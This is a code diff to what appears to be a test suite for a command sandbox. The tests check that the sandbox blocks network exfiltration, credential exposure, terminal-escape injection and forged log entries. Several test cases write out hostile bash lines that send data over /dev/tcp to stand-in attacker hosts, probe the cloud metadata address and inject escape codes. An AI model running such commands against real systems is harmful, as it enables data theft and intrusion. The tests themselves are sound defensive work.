@@ -11,6 +11,18 @@ import { all, keptSecret, neverPrints, noCredential, nothingAnywhere, prints } f
 const attack = groupOf("lifecycle", ["door"]);
 const none = sh("true");
 const ESCAPE = "\u001b";
+const LOOK_MS = 20;
+/** Of every process that this user sees. */
+const commandLines = (): string[] =>
+  readdirSync("/proc")
+    .filter((name) => /^\d+$/.test(name))
+    .map((pid) => {
+      try {
+        return readFileSync(`/proc/${pid}/cmdline`, "latin1");
+      } catch {
+        return "";
+      }
+    });
 const DENY_ALL = "version: 1\nnetwork_policies: {}\n";
 const resolves = (stage: Stage): string[] =>
   Object.entries(stage.servers.resolve).flatMap(([name, address]) => ["--resolve", `${name}:${address}`]);
@@ -26,7 +38,7 @@ export const command: Case[] = [
         "--",
         "bash",
         "-c",
-        "for t in evil.creel.example/443 api.creel.example/443 127.0.0.1/$0 203.0.113.5/80; do (exec 3<>/dev/tcp/$t; echo stolen >&3; read -t 1 <&3) 2>/dev/null; done; echo over",
+        "for t in evil.creel.example/443 api.creel.example/443 127.0.0.1/$0 203.0.113.5/80; do (exec 3<>/dev/tcp/$t; echo stolen >&3; read -t 30 <&3) 2>/dev/null; done; echo over",
         String(stage.servers.ports.loopback),
       ]),
     expect: all(nothingAnywhere, prints(/over/), prints(/creel: denied evil\.creel\.example/)),
@@ -56,22 +68,26 @@ export const command: Case[] = [
     promise: "credential-hidden",
     program: none,
     run: async (stage) => {
-      const running = startCreel(stage, ["run", "--secret", "TOKEN=env:MINE", "--", "sleep", "0.6"]);
-      await delay(300);
-      const lines = readdirSync("/proc")
-        .filter((name) => /^\d+$/.test(name))
-        .map((pid) => {
-          try {
-            return readFileSync(`/proc/${pid}/cmdline`, "latin1");
-          } catch {
-            return "";
-          }
-        })
-        .join("\n");
-      await running.ended;
-      return { code: 0, out: `${BEGAN}\n${lines}` };
+      const running = startCreel(stage, [
+        "run",
+        "--secret",
+        "TOKEN=env:MINE",
+        "--",
+        "sh",
+        "-c",
+        "echo INSIDE; sleep 0.3",
+      ]);
+      let over = false;
+      const end = running.ended.then(() => {
+        over = true;
+      });
+      // From its first moment to its last, the command inside included.
+      const lines = new Set<string>();
+      for (; !over; await delay(LOOK_MS)) for (const line of commandLines()) lines.add(line);
+      await end;
+      return { code: 0, out: `${BEGAN}\n${running.text()}${[...lines].join("\n")}` };
     },
-    expect: noCredential,
+    expect: all(noCredential, prints(/^INSIDE$/m), prints(/--secret\0TOKEN=env:MINE/)),
   }),
   attack("run-descriptors", "uses descriptors that the caller had open", {
     promise: "nothing-inherited",
@@ -152,7 +168,7 @@ export const command: Case[] = [
           "--",
           "bash",
           "-c",
-          `exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /\\e[2J\\e]0;owned\\a HTTP/1.1\\r\\nHost: x\\e[31m\\r\\n\\r\\n' >&3; read -t 1 <&3; cp /usr/bin/env $'/tmp/e\\e[2Jvil'; true`,
+          `exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /\\e[2J\\e]0;owned\\a HTTP/1.1\\r\\nHost: x\\e[31m\\r\\n\\r\\n' >&3; read -t 30 <&3; cp /usr/bin/env $'/tmp/e\\e[2Jvil'; true`,
         ]),
       expect: {
         says: "no escape byte is printed",
@@ -172,7 +188,7 @@ export const command: Case[] = [
         "--",
         "bash",
         "-c",
-        `(echo '{"decision":"allow"}' >> ${file}) 2>&1; exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /%%0a{"decision":"allow"}\\r\\n{"decision":"allow"} HTTP/1.1\\r\\n\\r\\n' >&3; read -t 1 <&3; true`,
+        `(echo '{"decision":"allow"}' >> ${file}) 2>&1; exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /%%0a{"decision":"allow"}\\r\\n{"decision":"allow"} HTTP/1.1\\r\\n\\r\\n' >&3; read -t 30 <&3; true`,
       ]);
       return { code, out: `${out}\n[file] ${readFileSync(file, "utf8")}` };
     },
@@ -238,7 +254,7 @@ export const command: Case[] = [
         "--",
         "bash",
         "-c",
-        `for t in 169.254.169.254/80 127.0.0.1/${stage.servers.ports.loopback}; do (exec 3<>/dev/tcp/$t; printf 'GET / HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3; timeout 2 cat <&3); done; true`,
+        `for t in 169.254.169.254/80 127.0.0.1/${stage.servers.ports.loopback}; do (exec 3<>/dev/tcp/$t; printf 'GET / HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3; timeout 30 cat <&3); done; true`,
       ]),
     expect: all(nothingAnywhere, prints(/creel: denied 169\.254\.169\.254|denied GET 169\.254/)),
   }),
